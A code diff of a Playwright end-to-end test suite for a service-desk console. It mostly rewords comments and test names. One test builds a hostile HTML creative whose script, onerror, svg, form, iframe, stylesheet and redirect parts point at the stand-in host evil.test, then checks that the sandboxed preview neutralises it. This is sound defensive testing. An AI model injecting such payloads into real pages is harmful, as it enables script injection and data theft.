@@ -1,6 +1,6 @@
-// Journey 13 of docs/design/console.md 6, its reading part: a service desk reads a customer. The server stands behind a proxy
-// at /arbiter/, which takes that path off and later leaves it; it is stopped and started again under the open page, and is read by
-// a viewer, who may change nothing.
+// The reading part of journey 13 of docs/design/console.md 6: a service desk reads a customer. The server is behind a
+// proxy at /arbiter/, which first removes that path and later keeps it. The server restarts under the open page. A
+// viewer, who can't change anything, reads it.
 import assert from 'node:assert/strict';
 import { after, before, test } from 'node:test';
 import type { Locator, Page } from 'playwright-core';
@@ -11,7 +11,7 @@ import { readCustomer } from './walks.ts';
 let stage: Stage;
 let page: Page;
 const skip = cannotBrowse === false ? {} : { skip: cannotBrowse };
-/** Long, because the machine may be busy; every wait ends as soon as what it waits for is there. */
+/** Long, because the machine may be busy. Every wait ends as soon as its condition holds. */
 const timeout = 60_000;
 const customer = 'CM-000031';
 
@@ -26,15 +26,15 @@ after(() => stage?.close());
 
 const heading = (name: string, on = page) => on.getByRole('heading', { level: 1, name }).waitFor();
 
-test('a customer is found by id: what would be shown now, what happened, what limits it', skip, async () => {
+test('finds a customer by ID: next best offers, history, limits', skip, async () => {
   await page.goto(stage.firstRun);
   await readCustomer(stage, page, 'email', customer);
 });
 
-test('HTML that somebody planted in a creative is shown, and does nothing', skip, async () => {
+test('shows hostile HTML of a creative without running it', skip, async () => {
   const { data } = await stage.call('GET', 'creatives?limit=1');
   const [{ id, content }] = data as readonly [{ readonly id: string; readonly content: object }];
-  // Everything that could run, call, leave or take over, each in the form that a policy alone would stop.
+  // Everything that could run, call, leave or take over, in forms that only a content security policy stops.
   const marks = ['script', 'onerror', 'svg'].map((name) => `parent.postMessage({stolen:'${name}'},'*')`);
   const hostile = `<!doctype html><head><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/refresh">
     <link rel="stylesheet" href="https://evil.test/a.css"><style>@import url(https://evil.test/b.css); p { color: rgb(1, 2, 3); background: url(https://evil.test/c.png) }</style></head>
@@ -44,14 +44,14 @@ test('HTML that somebody planted in a creative is shown, and does nothing', skip
     <form action="https://evil.test/form" target="_top"><input name="body" autofocus><button>Send</button></form>
     <iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/object"></object></body>`;
   await stage.call('PUT', 'creatives', { id, content: { ...content, body: hostile } });
-  const told: string[] = [];
-  await page.exposeFunction('noteMessage', (text: string) => told.push(text));
+  const messages: string[] = [];
+  await page.exposeFunction('noteMessage', (text: string) => messages.push(text));
   await page.addInitScript("addEventListener('message', ({ data }) => noteMessage(JSON.stringify(data)))");
   await page.goto(`${stage.url}/creatives/${id}`);
   const shown = page.frameLocator('iframe[title="Preview of body"]');
   await shown.getByText('Happy birthday').waitFor();
   assert.equal(await shown.locator('p').evaluate((element) => getComputedStyle(element).color), 'rgb(1, 2, 3)');
-  // A link says where it leads, and leads nowhere; a button of a form sends nothing.
+  // A link shows its target but doesn't open it; a form's button sends nothing.
   assert.equal(await shown.getByText('Redeem').getAttribute('title'), 'https://evil.test/away');
   for (const press of ['Redeem', 'Again', 'Send']) await shown.getByText(press).click();
   await shown.getByText('beacon', { exact: true }).waitFor();
@@ -64,11 +64,11 @@ test('HTML that somebody planted in a creative is shown, and does nothing', skip
   );
   await shown.getByText('Happy birthday').waitFor();
   assert.deepEqual(
-    told.filter((text) => JSON.parse(text).stolen !== undefined),
+    messages.filter((text) => JSON.parse(text).stolen !== undefined),
     [],
   );
-  assert.ok(told.length > 0, 'the frame has told how high it is');
-  // The frame has no origin: neither the session nor anything of the page is within its reach.
+  assert.ok(messages.length > 0, 'the frame has reported its height');
+  // The frame has no origin: it can reach neither the session nor the page.
   const frame = page.frames().find((each) => each.url().includes('preview-frame.html'));
   assert.ok(frame);
   const reach = await frame.evaluate(() => {
@@ -86,7 +86,7 @@ test('HTML that somebody planted in a creative is shown, and does nothing', skip
   await page.getByText('https://evil.test/beacon.gif').waitFor();
 });
 
-test('a server that is away is told, and the page goes on when it is back', skip, async () => {
+test("reports an unavailable server, and continues when it's back", skip, async () => {
   await page.goto(`${stage.url}/decisions`);
   await page
     .getByRole('row', { name: new RegExp(customer) })
@@ -94,14 +94,14 @@ test('a server that is away is told, and the page goes on when it is back', skip
     .waitFor();
   assert.ok(stage.proxy);
   await stage.stop();
-  // What is asked of the server again finds the proxy's page in its place; what is shown stays.
+  // Further calls get the proxy's page; the shown data stays.
   await page.getByRole('button', { name: 'Live', exact: true }).click();
   await page.getByText('The server is unavailable.', { exact: false }).first().waitFor();
   await page
     .getByRole('row', { name: new RegExp(customer) })
     .first()
     .waitFor();
-  // And nothing at all when the proxy is away too.
+  // And no response when the proxy is down, too.
   stage.proxy.mode = 'silent';
   const away = page.getByText("Can't reach the server.", { exact: false }).first();
   await away.waitFor();
@@ -109,14 +109,14 @@ test('a server that is away is told, and the page goes on when it is back', skip
     .getByRole('row', { name: new RegExp(customer) })
     .first()
     .waitFor();
-  // A page whose code was not loaded yet cannot come now, and does not claim to know why.
+  // A page whose code isn't loaded yet can't open, and doesn't claim to know why.
   await page.getByRole('link', { name: 'Contact policies', exact: true }).click();
   await heading("This page didn't load");
   await stage.start();
-  // From here on the proxy is of the other kind: it leaves the path as it is.
+  // From here on, the proxy keeps the path.
   stage.proxy.mode = 'keeps';
   await page.getByRole('button', { name: 'Reload', exact: true }).click();
-  // The session and the data are those from before.
+  // Session and data are the same.
   await heading('Contact policies');
   assert.equal(await away.count(), 0);
   await page.getByRole('link', { name: 'Decisions', exact: true }).click();
@@ -124,14 +124,14 @@ test('a server that is away is told, and the page goes on when it is back', skip
     .getByRole('row', { name: new RegExp(customer) })
     .first()
     .waitFor();
-  // A deep link is known there too, and its reload.
+  // A deep link and its reload work there, too.
   await page.goto(`${stage.url}/customers/${customer}?tab=limits`);
   await page.getByRole('region', { name: 'Suppressions' }).getByText('complained on the phone').waitFor();
   await page.reload();
   await heading(customer);
 });
 
-test('a viewer reads everything, and is told who may do what a viewer may not', skip, async () => {
+test("shows viewers everything, and the roles for what they can't do", skip, async () => {
   const { recommendationId } = await stage.call('POST', 'recommend', { customerId: 'CM-000035', channel: 'web' });
   const desk = await stage.open();
   desk.setDefaultTimeout(timeout);
@@ -157,7 +157,7 @@ test('a viewer reads everything, and is told who may do what a viewer may not', 
   assert.equal(await traces.isChecked(), before, 'it stays as it is');
   await desk.goto(`${stage.url}/settings/api-keys`);
   await desk.getByText('Only admins can manage API keys.').waitFor();
-  // What cannot be read is told to whom a link leads there; a group of such pages alone is not in the rail.
+  // An unreadable page says so; a group of only such pages isn't in the sidebar.
   await desk.goto(`${stage.url}/audit`);
   await heading('Audit log', desk);
   await desk.getByText('You need the admin role to open this page; yours is viewer.', { exact: false }).waitFor();
@@ -166,7 +166,7 @@ test('a viewer reads everything, and is told who may do what a viewer may not', 
   assert.equal(await rail.getByRole('link', { name: 'Audit log' }).count(), 0);
 });
 
-/** A control that cannot be used is there, reachable by keyboard, and says why. */
+/** A disabled control stays reachable by keyboard, and says why it's disabled. */
 async function disabledBecause(control: Locator, reason: RegExp): Promise<void> {
   await control.waitFor();
   assert.equal(await control.getAttribute('aria-disabled'), 'true');
@@ -177,7 +177,7 @@ async function disabledBecause(control: Locator, reason: RegExp): Promise<void> 
   assert.equal(await control.evaluate((element) => element === document.activeElement), true);
 }
 
-test('a tenant without data says on every list what to do first', skip, async () => {
+test('names the first step on every list of an empty tenant', skip, async () => {
   await stage.call('DELETE', 'seed-dataset/coffee_rewards', undefined, { 'x-confirm-delete': 'coffee_rewards' });
   await page.goto(stage.url);
   await page.getByRole('button', { name: 'Load Coffee rewards' }).waitFor();
